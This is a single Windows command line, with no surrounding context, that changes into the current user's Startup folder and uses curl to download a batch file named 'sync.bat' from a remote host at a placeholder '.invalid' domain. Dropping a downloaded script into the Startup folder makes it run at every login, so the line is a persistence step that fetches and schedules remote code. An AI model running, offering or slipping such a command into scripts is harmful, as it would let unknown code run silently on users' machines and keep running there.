cd "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup" && curl -o sync.bat https://cdn.sync.invalid/s
